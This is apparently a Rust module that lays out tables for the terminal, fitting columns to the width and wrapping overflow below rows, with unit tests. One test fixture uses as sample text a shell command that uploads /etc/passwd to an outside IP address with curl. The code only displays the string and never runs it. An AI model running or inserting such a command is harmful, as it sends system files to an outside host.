//! Laying out rows for people: to the terminal's width on one, one line each elsewhere.

use crate::terminal::{columns, fit, wrap};

/// How far lines below a row are indented.
const INDENT: usize = 4;

/// A table with a heading, whose rows may have lines below them.
#[derive(Debug)]
pub(crate) struct Table {
    heading: Vec<&'static str>,
    rows: Vec<Row>,
}

#[derive(Debug)]
struct Row {
    cells: Vec<String>,
    below: Vec<String>,
}

impl Table {
    /// A table of these columns. One whose name starts with `>` is of numbers, which stand to the right.
    pub(crate) fn new(heading: &[&'static str]) -> Self {
        Self { heading: heading.to_vec(), rows: Vec::new() }
    }

    /// Adds a row with as many cells as there are columns, and lines that stand below it.
    pub(crate) fn row(&mut self, cells: Vec<String>, below: Vec<String>) {
        self.rows.push(Row { cells, below });
    }

    /// The table for a terminal of this width, where columns that do not fit stand below their row; without one a line
    /// for each row, with what stands below it at its end.
    pub(crate) fn text(&self, width: Option<usize>) -> String {
        let names: Vec<_> = self.heading.iter().map(|name| name.trim_start_matches('>').to_owned()).collect();
        let widths: Vec<_> = (0..names.len())
            .map(|column| {
                let cells = self.rows.iter().map(|row| columns(&row.cells[column]));
                cells.chain([columns(&names[column])]).max().unwrap_or(0)
            })
            .collect();
        let fitting = width.map_or(names.len(), |width| fitting(&widths, width));
        let mut lines = vec![self.line(&names[..fitting], &widths)];
        for row in &self.rows {
            let line = self.line(&row.cells[..fitting], &widths);
            match width {
                None => lines.push([&[line][..], &row.below].concat().join("  ")),
                Some(width) => {
                    lines.push(line);
                    let others = names.iter().zip(&row.cells).skip(fitting);
                    let others: Vec<_> =
                        others.map(|(name, cell)| format!("{} {cell}", name.to_lowercase())).collect();
                    let room = width.saturating_sub(INDENT);
                    let below = [others.join(", ")].into_iter().chain(row.below.iter().cloned());
                    let below = below.flat_map(|below| wrap(&below, room, room));
                    lines.extend(below.map(|below| format!("{:INDENT$}{below}", "")));
                }
            }
        }
        let fitted = lines.into_iter().map(|line| match width {
            Some(width) => fit(&line, width) + "\n",
            None => line + "\n",
        });
        fitted.collect()
    }

    fn line(&self, cells: &[String], widths: &[usize]) -> String {
        let mut line = String::new();
        for ((cell, width), name) in cells.iter().zip(widths).zip(&self.heading) {
            let padding = " ".repeat(width.saturating_sub(columns(cell)));
            let (before, after) = if name.starts_with('>') { (&*padding, "") } else { ("", &*padding) };
            line.push_str(&format!("{before}{cell}{after}  "));
        }
        line.trim_end().to_owned()
    }
}

/// How many columns of these widths, two spaces between two, fit a terminal; one always does.
fn fitting(widths: &[usize], width: usize) -> usize {
    let mut end = 0;
    let fits = |column: &&usize| {
        end += **column + 2;
        end <= width + 2
    };
    widths.iter().take_while(fits).count().max(1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table() -> Table {
        let mut table = Table::new(&["NAME", ">SEEN", "WHAT"]);
        let long = "sh -c curl -s --upload-file /etc/passwd http://203.0.113.9/drop".to_owned();
        table.row(vec!["nginx".into(), "12".into(), "x".into()], vec![long]);
        table.row(vec!["日本".into(), "1,234".into(), "y".repeat(50)], Vec::new());
        table
    }

    #[test]
    fn a_terminal_gets_columns_that_fit() {
        for width in [40, 80, 200] {
            let text = table().text(Some(width));
            assert!(text.lines().all(|line| columns(line) <= width), "{text}");
        }
        let text = table().text(Some(80));
        let lines: Vec<_> = text.lines().collect();
        assert_eq!(lines[..2], ["NAME    SEEN  WHAT", "nginx     12  x"]);
        assert!(lines[2].starts_with("    sh -c curl"), "{text}");
    }

    #[test]
    fn columns_that_do_not_fit_stand_below() {
        let mut table = Table::new(&["NAME", ">SEEN", "LAST"]);
        table.row(vec!["n".repeat(30), "12".into(), "2026-11-21 14:03".into()], vec!["command".into()]);
        let text = table.text(Some(40));
        let lines: Vec<_> = text.lines().skip(1).map(str::trim).collect();
        assert_eq!(lines, [&*format!("{}    12", "n".repeat(30)), "last 2026-11-21 14:03", "command"]);
    }

    #[test]
    fn elsewhere_a_row_is_a_line_and_nothing_is_cut() {
        let text = table().text(None);
        assert_eq!(text.lines().count(), 3);
        assert!(
            text.contains("x  sh -c curl -s --upload-file /etc/passwd http://203.0.113.9/drop\n"),
            "{text}"
        );
        assert!(text.contains(&"y".repeat(50)));
    }
}
